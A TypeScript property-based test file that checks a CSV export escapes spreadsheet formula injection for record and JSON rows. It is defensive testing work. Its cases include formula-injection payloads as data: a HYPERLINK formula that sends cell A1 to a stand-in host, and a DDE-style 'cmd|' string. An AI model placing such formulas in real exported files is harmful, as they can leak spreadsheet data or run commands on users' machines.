/** That no text of a file in CSV is a formula to a spreadsheet, and that numbers and `csv=raw` stay as they are. */
import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { textFile } from '../../../lambdas/data/export-response.ts';

const COLUMNS = [{ name: 'n', kind: 'integer' }, { name: 'text' }, { name: 'list', kind: 'json' }] as const;
const NAMES = COLUMNS.map(({ name }) => name);
const NUMBER = /^-?\d+(\.\d+)?$/;

type Row = readonly [n: number, text: string];

/** A record as PostgreSQL writes it. */
function record([n, text]: Row): string {
  const isQuoted = text === '' || /["\\,()\s]/.test(text);
  return `(${n},${isQuoted ? `"${text.replaceAll(/["\\]/g, '$&$&')}"` : text},[])`;
}

const WAYS = {
  records: { isJson: false, lines: (rows: readonly Row[]) => rows.map(record) },
  JSON: {
    isJson: true,
    lines: (rows: readonly Row[]) => rows.map(([n, text]) => JSON.stringify({ n, text, list: [] })),
  },
};

function csvOf(way: keyof typeof WAYS, rows: readonly Row[], isRaw = false): string {
  const { isJson, lines } = WAYS[way];
  const file = textFile({ format: 'csv', columns: COLUMNS, isJson, isRaw });
  return String(file.rows(NAMES, [lines(rows).join('\n')]));
}

/** A file with a list in each of its rows, behind a number. */
function listsOf(way: keyof typeof WAYS, lists: readonly string[], isRaw = false): string {
  const { isJson } = WAYS[way];
  const file = textFile({ format: 'csv', columns: [COLUMNS[0], COLUMNS[2]], isJson, isRaw });
  const lines = lists.map((list) =>
    isJson ? `{"n":7,"list":${list}}` : `(7,"${list.replaceAll(/["\\]/g, '$&$&')}")`,
  );
  return String(file.rows(['n', 'list'], [lines.join('\n')]));
}

/** The cells of a spreadsheet where `separator` parts them. */
function cellsOf(csv: string, separator: string): readonly string[] {
  const cells: string[] = [];
  const escaped = separator === '\t' ? '\\t' : separator;
  const pattern = new RegExp(`"((?:[^"]|"")*)"[^${escaped}\\r\\n]*|([^${escaped}\\r\\n]*)`, 'y');
  for (let at = 0; at < csv.length; at = pattern.lastIndex + 1) {
    pattern.lastIndex = at;
    const [, quoted, plain] = pattern.exec(csv) ?? [];
    cells.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
  }
  return cells;
}

const signs = fc.constantFrom(...'=+-@＝＋－＠;\t\r\n "\',()1.#x\\');
const texts = fc.oneof(
  fc.array(signs, { maxLength: 8 }).map((all) => all.join('')),
  fc.string(),
);
const rows = fc.array(fc.tuple(fc.integer(), texts), { minLength: 1, maxLength: 5 });

describe.each(['records', 'JSON'] as const)('a file whose rows come as %s', (way) => {
  test('has no cell that a spreadsheet takes for a formula, whatever parts its cells', () => {
    fc.assert(
      fc.property(rows, fc.constantFrom(',', ';', '\t'), (all, separator) => {
        const cells = cellsOf(csvOf(way, all), separator);
        const formulas = cells.filter(
          (cell) => /^\s*[=+\-@＝＋－＠]/.test(cell) && !NUMBER.test(cell.split(',')[0] ?? ''),
        );
        expect(formulas).toEqual([]);
      }),
      { numRuns: 2_000 },
    );
  });

  test.each([
    ['=HYPERLINK("http://x.example/?"&A1,"claim")', `"'=HYPERLINK(""http://x.example/?""&A1,""claim"")"`],
    ['@SUM(1)', expect.stringMatching(/^"?'@SUM\(1\)"?$/)],
    ['-1+cmd|x', "'-1+cmd|x"],
    ['-5', '-5'],
    ['-0.25', '-0.25'],
    ['  =x', expect.stringMatching(/^"? {2}'=x"?$/)],
    ['a;=x', "a;'=x"],
    ['ACRN', 'ACRN'],
  ])('has %j as %j', (text, cell) => {
    expect(
      csvOf(way, [[-7, text]])
        .split('\r\n')[1]
        ?.slice('-7,'.length, -',[]'.length),
    ).toEqual(cell);
  });

  test('has no formula in the texts of a list either, whatever parts its cells, and stays JSON', () => {
    fc.assert(
      fc.property(rows, fc.constantFrom(',', ';', '\t'), (all, separator) => {
        const lists = all.map(([n, text]) => JSON.stringify([{ name: text, to_block: n }]));
        const csv = listsOf(way, lists);
        const cells = cellsOf(csv, separator);
        expect(cells.filter((cell) => /^\s*[=+\-@＝＋－＠]/.test(cell))).toEqual([]);
        const kept = cellsOf(csv, ',').filter((cell) => cell.startsWith('[{'));
        expect(kept.map((cell) => JSON.parse(cell)[0].to_block)).toEqual(all.map(([n]) => n));
        expect(cellsOf(listsOf(way, lists, true), ',').filter((cell) => cell.startsWith('[{'))).toEqual(
          lists,
        );
      }),
      { numRuns: 1_000 },
    );
  });

  test('has every text as it is with csv=raw', () => {
    fc.assert(
      fc.property(rows, (all) => {
        const cells = cellsOf(csvOf(way, all, true).replaceAll('\r\n', ','), ',');
        expect(cells.filter((_, index) => index % 3 === 1).slice(1)).toEqual(all.map(([, text]) => text));
      }),
    );
  });
});
